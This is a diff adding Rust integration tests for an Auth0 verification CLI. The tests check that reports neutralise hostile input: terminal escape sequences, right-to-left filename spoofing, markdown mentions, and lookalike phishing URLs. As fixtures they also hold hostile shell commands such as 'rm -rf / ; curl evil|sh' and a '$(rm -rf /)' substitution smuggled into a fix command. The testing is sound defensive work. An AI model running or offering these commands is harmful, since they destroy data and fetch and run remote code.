@@ -1,0 +1,331 @@
+//! Reports at the edges: names that somebody means ill with, full disks, what is too long for its reader, a tenant that
+//! has had enough.
+
+use crate::support::between::Between;
+use crate::support::program::{Program, sandbox};
+use maz_auth0::output::Format;
+use maz_auth0::sandbox::Sandbox;
+use serde_json::{Value, json};
+use std::fmt::Write as _;
+use tempfile::TempDir;
+
+/// A record file of one tenant under several names.
+fn records(tenant: &Sandbox, names: &[&str]) -> TempDir {
+    let env = &tenant.details().env;
+    let mut text = String::from("schema = 1\n");
+    for name in names {
+        let _ = write!(
+            text,
+            "[integrations.{name}]\ndomain = \"{}\"\nclient_id = \"{}\"\nmanagement_api_identifier = \"{}\"\n\
+             default_directory = \"{}\"\nsubscription_type = \"all-access\"\nclient_secret = {{ store = \"environment\" }}\n",
+            env["MAZ_AUTH0_DOMAIN"],
+            env["MAZ_AUTH0_CLIENT_ID"],
+            env["MAZ_AUTH0_AUDIENCE"],
+            env["MAZ_AUTH0_DEFAULT_DIRECTORY"],
+        );
+    }
+    let folder = TempDir::new().expect("a folder");
+    std::fs::write(folder.path().join("integrations.toml"), text).expect("a file");
+    folder
+}
+
+fn verify(tenant: &Sandbox, folder: &TempDir, arguments: &[&str]) -> Program {
+    Program::new(&[&["verify"], arguments].concat())
+        .against(tenant)
+        .variable("MAZ_AUTH0_CONFIG", "integrations.toml")
+        .within(folder.path())
+}
+
+fn report(folder: &TempDir, arguments: &[&str]) -> crate::support::program::Outcome {
+    Program::new(&[&["report"], arguments].concat())
+        .within(folder.path())
+        .run()
+}
+
+/// A report of so many integrations whose one check ended so.
+fn made(count: usize, status: &str, message: &str) -> Value {
+    let integrations: Vec<Value> = (0..count)
+        .map(|at| {
+            json!({
+                "name": format!("n{at:05}"), "domain": "acme.us.auth0.com", "outcome": status, "requests": 1,
+                "checks": [{
+                    "id": "directory.default", "stage": "directory", "title": "It has one", "status": status,
+                    "cause": "not-set", "message": message, "evidence": "behaviour", "because": null,
+                    "missing": [], "fix": null, "duration_ms": 3,
+                }],
+            })
+        })
+        .collect();
+    json!({
+        "schema": "maz-auth0/report/v1", "tool": {"name": "maz-auth0", "version": "0.1.0"},
+        "started_at": "2026-11-23T10:00:00Z", "duration_ms": 400,
+        "summary": {"pass": 0, "warn": 0, "fail": 0, "skip": 0, "unknown": 0}, "exit_code": 0,
+        "integrations": integrations,
+    })
+}
+
+fn write(folder: &TempDir, name: &str, report: &Value) {
+    std::fs::write(folder.path().join(name), report.to_string()).expect("a file");
+}
+
+/// A record file may come with a pull request: what stands in it as a name is somebody's words like any other.
+#[test]
+fn no_name_of_a_record_takes_effect_in_any_format() {
+    let tenant = sandbox(&[]);
+    let folder = records(&tenant, &["a", "b"]);
+    let path = folder.path().join("integrations.toml");
+    let mut text = std::fs::read_to_string(&path).expect("a file");
+    text.push_str(
+        "[integrations.\"x\\n\\n\\u001b]8;;https://evil.example/\\u0007click\\u001b]8;;\\u0007\\u001b[2J\\u0000\\u202egpj.exe\\r\\n\\n- @octocat\\n\\n1. list\"]\ndomain = \"acme.us.auth0.com\"\n",
+    );
+    std::fs::write(&path, text).expect("a file");
+    for format in Format::names() {
+        let output = format!("{format}=report");
+        let outcome = verify(
+            &tenant,
+            &folder,
+            &["--all", "--format", &format, "--output", &output],
+        )
+        .run();
+        assert_eq!(outcome.code, Some(2), "{outcome:?}");
+        let written = std::fs::read_to_string(folder.path().join("report")).expect("a file");
+        for text in [&outcome.stdout, &outcome.stderr, &written] {
+            assert!(text.contains("gpj.exe"), "{format}: {text:?}");
+            let raw = ['\u{1b}', '\u{7}', '\0', '\r', '\u{202e}'];
+            // Colours are this program's own, and there is no terminal here.
+            assert!(!text.contains(raw), "{format}: {text:?}");
+            assert!(!text.contains("\n- @"), "{format}: {text:?}");
+        }
+        if format == "json" {
+            // Read again it is the same integration.
+            let again = report(&folder, &["compare", "report", "report"]);
+            assert!(!again.stdout.contains("In the earlier report"), "{again:?}");
+        }
+    }
+}
+
+#[cfg(target_os = "linux")]
+#[test]
+fn a_full_standard_output_costs_no_file() {
+    let tenant = sandbox(&[]);
+    let folder = records(&tenant, &["a", "b", "c"]);
+    let program = env!("CARGO_BIN_EXE_maz-auth0");
+    let shell = |line: &str| {
+        let line = line.replace("PROGRAM", program);
+        let env = &tenant.details().env;
+        std::process::Command::new("sh")
+            .args(["-c", &line])
+            .env_clear()
+            .env("PATH", "/usr/bin:/bin")
+            .env("HOME", folder.path())
+            .env("MAZ_AUTH0_CONFIG", "integrations.toml")
+            .env("MAZ_AUTH0_ENDPOINT", tenant.endpoint())
+            .env("MAZ_AUTH0_CLIENT_SECRET", &env["MAZ_AUTH0_CLIENT_SECRET"])
+            .current_dir(folder.path())
+            .output()
+            .expect("it runs")
+    };
+    for jobs in ["1", "8"] {
+        let outcome = shell(&format!(
+            "PROGRAM verify --all --jobs {jobs} --format jsonl --output json={jobs}.json --output junit={jobs}.xml >/dev/full"
+        ));
+        assert_eq!(outcome.status.code(), Some(2), "{outcome:?}");
+        let said = String::from_utf8_lossy(&outcome.stderr).into_owned();
+        assert!(said.contains("standard output"), "{said}");
+        let json =
+            std::fs::read_to_string(folder.path().join(format!("{jobs}.json"))).expect(&said);
+        let json: Value = serde_json::from_str(&json).expect("JSON");
+        assert_eq!(json["integrations"].as_array().map(Vec::len), Some(3));
+        assert!(folder.path().join(format!("{jobs}.xml")).exists());
+    }
+    // What a script has open is written to, and not replaced.
+    for name in ["/dev/stdout", "/dev/fd/1", "/proc/self/fd/1"] {
+        shell(&format!(
+            "(echo before; PROGRAM verify a -q --output json={name}; echo after) >log"
+        ));
+        let log = std::fs::read_to_string(folder.path().join("log")).expect("a log");
+        assert!(
+            log.starts_with("before\n") && log.ends_with("after\n"),
+            "{name}: {log}"
+        );
+        assert!(log.contains("maz-auth0/report/v1"), "{name}: {log}");
+    }
+}
+
+/// Auth0 counts each login that fails from one address: the first that hears so speaks for the others of its tenant.
+#[test]
+fn a_tenant_that_holds_this_address_back_is_sent_no_further_logins() {
+    let tenant = sandbox(&[]);
+    let folder = records(&tenant, &["a", "b", "c", "d"]);
+    let between = Between::with(&tenant, |asked| {
+        let body = r#"{"error":"too_many_attempts","error_description":"We have detected suspicious login behavior and further attempts will be blocked. Please contact the administrator."}"#;
+        let answer = format!(
+            "HTTP/1.1 429 Too Many Requests\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
+            body.len()
+        );
+        asked
+            .grant()
+            .starts_with("password")
+            .then(|| answer.into_bytes())
+    });
+    let outcome = verify(&tenant, &folder, &["--all", "--format", "json"])
+        .variable("MAZ_AUTH0_ENDPOINT", &between.endpoint)
+        .run();
+    let report = outcome.json();
+    for one in report["integrations"].as_array().expect("some") {
+        let checks = one["checks"].as_array().expect("some");
+        let of = |id: &str| checks.iter().find(|check| check["id"] == id).expect(id);
+        assert_eq!(
+            of("password.protection")["cause"],
+            "address-throttled",
+            "{one}"
+        );
+    }
+    let asked = between.asked();
+    let logins = asked.iter().filter(|text| text.contains("password"));
+    assert!(logins.count() <= 2, "{asked:?}");
+}
+
+#[test]
+fn a_step_summary_is_never_longer_than_github_takes_and_stands_by_itself() {
+    let folder = TempDir::new().expect("a folder");
+    let long = "m".repeat(300);
+    write(&folder, "old", &made(8_000, "pass", &long));
+    write(&folder, "new", &made(8_000, "fail", &long));
+    let compare = || {
+        Program::new(&["report", "compare", "old", "new", "--format", "github"])
+            .within(folder.path())
+            .variable("GITHUB_STEP_SUMMARY", "summary.md")
+            .run()
+    };
+    compare();
+    let summary = || std::fs::read_to_string(folder.path().join("summary.md")).expect("a file");
+    let first = summary();
+    assert!(first.len() < 1_048_576, "{}", first.len());
+    assert!(first.contains(" more"), "{}", &first[..2_000]);
+    // One behind another, or behind somebody's line without an end, begins again.
+    std::fs::write(folder.path().join("summary.md"), "before").expect("a file");
+    compare();
+    assert!(
+        summary().starts_with("before\n\n**"),
+        "{}",
+        &summary()[..100]
+    );
+}
+
+#[test]
+fn words_of_others_make_no_link_and_call_nobody_in_markdown() {
+    let folder = TempDir::new().expect("a folder");
+    let words =
+        "1. see https://evil.example/a and www.evil.example, @octocat, a@b.example, #12, GH-3, !4";
+    write(&folder, "one", &made(1, "fail", words));
+    let text = report(&folder, &["show", "one", "--format", "markdown"]).stdout;
+    for raw in [
+        "https://evil",
+        "www.evil",
+        " @octocat",
+        "&#64;octocat",
+        "#12",
+        "GH-3",
+        "!4",
+        "> 1. ",
+    ] {
+        assert!(!text.contains(raw), "{raw}: {text}");
+    }
+    // An address is to be copied as it is.
+    assert!(text.contains("a&#64;b.example"), "{text}");
+}
+
+#[test]
+fn of_a_report_from_elsewhere_only_auth0s_pages_and_commands_are_shown() {
+    let folder = TempDir::new().expect("a folder");
+    for (url, command) in [
+        ("https://evil.example/phish", "rm -rf / ; curl evil|sh"),
+        (
+            "https://manage.auth0.com.evil.example/",
+            "auth0 apps list; rm -rf /",
+        ),
+        (
+            "https://manage.auth0.com@evil.example/",
+            "auth0 apps list $(rm -rf /)",
+        ),
+    ] {
+        let mut from_elsewhere = made(1, "fail", "m");
+        from_elsewhere["integrations"][0]["checks"][0]["fix"] =
+            json!({"summary": "Do it.", "steps": [], "url": url, "command": command});
+        write(&folder, "one", &from_elsewhere);
+        for format in Format::names() {
+            let shown = report(&folder, &["show", "one", "--format", &format]).stdout;
+            assert!(!shown.contains("evil"), "{format}: {shown}");
+            assert!(!shown.contains("rm -rf"), "{format}: {shown}");
+        }
+    }
+    let mut own = made(1, "fail", "m");
+    let command = "auth0 api patch clients/x --data '{\"a\": [1 | 2]}'";
+    own["integrations"][0]["checks"][0]["fix"] = json!({"summary": "Do it.", "steps": [], "url": "https://manage.auth0.com/x", "command": command});
+    write(&folder, "one", &own);
+    let shown = report(&folder, &["show", "one", "--format", "json"]).json();
+    let fix = &shown["integrations"][0]["checks"][0]["fix"];
+    assert_eq!(fix["url"], "https://manage.auth0.com/x");
+    assert_eq!(fix["command"], command);
+}
+
+#[test]
+fn what_is_only_a_part_says_so_in_every_format() {
+    let folder = TempDir::new().expect("a folder");
+    let mut part = made(1, "pass", "m");
+    part["shard"] = json!({"part": 1, "of": 3});
+    write(&folder, "part", &part);
+    for format in Format::names() {
+        let shown = report(&folder, &["show", "part", "--format", &format]).stdout;
+        let says = shown.contains("part 1 of 3") || shown.contains("\"of\":3");
+        assert!(says, "{format}: {shown}");
+    }
+}
+
+#[test]
+fn a_run_that_was_cut_off_while_it_waited_stays_that() {
+    let folder = TempDir::new().expect("a folder");
+    let mut waiting = made(2, "fail", "m");
+    waiting["exit_code"] = json!(130);
+    write(&folder, "one", &waiting);
+    let shown = report(&folder, &["show", "one"]);
+    assert!(shown.stdout.contains("Cut off"), "{shown:?}");
+    assert_eq!(
+        report(&folder, &["show", "one", "--format", "json"]).json()["exit_code"],
+        130
+    );
+}
+
+#[test]
+fn a_name_limits_what_is_compared() {
+    let tenant = sandbox(&[]);
+    let folder = records(&tenant, &["a", "b"]);
+    let mut before = made(3, "fail", "m");
+    for (at, name) in ["a", "b", "c"].into_iter().enumerate() {
+        before["integrations"][at]["name"] = json!(name);
+    }
+    write(&folder, "before.json", &before);
+    let outcome = verify(
+        &tenant,
+        &folder,
+        &["a", "--since", "before.json", "--format", "json"],
+    )
+    .run();
+    let since = &outcome.json()["since"];
+    assert_eq!(since["gone"].as_array().map_or(0, Vec::len), 0, "{since}");
+    assert_eq!(since["not_judged"], json!([]), "{since}");
+    assert_eq!(outcome.code, Some(0), "{outcome:?}");
+}
+
+/// All of a record file is several, however many that is: what cannot be read of it stands in a report.
+#[test]
+fn all_of_one_has_a_report_too() {
+    let tenant = sandbox(&[]);
+    let folder = records(&tenant, &["a"]);
+    let outcome = verify(&tenant, &folder, &["--all", "--format", "json"])
+        .variable("MAZ_AUTH0_CLIENT_SECRET", "")
+        .run();
+    assert_eq!(outcome.code, Some(2), "{outcome:?}");
+    assert_eq!(outcome.json()["not_run"], json!(["a"]));
+}
